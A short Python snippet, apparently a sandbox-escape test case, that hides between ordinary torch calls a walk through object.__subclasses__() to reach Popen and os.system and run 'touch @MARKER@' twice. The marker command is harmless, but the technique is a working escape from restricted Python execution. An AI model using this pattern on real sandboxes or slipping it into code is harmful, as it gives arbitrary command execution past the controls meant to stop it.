import torch

before = torch.zeros(2, 3)
base = torch.nn.Linear.__mro__[-1]
for cls in base.__subclasses__():
    if cls.__name__ == "Popen":
        cls(["touch", "@MARKER@"]).wait()
[c for c in base.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("touch @MARKER@")
after = before.sum(dim=0)
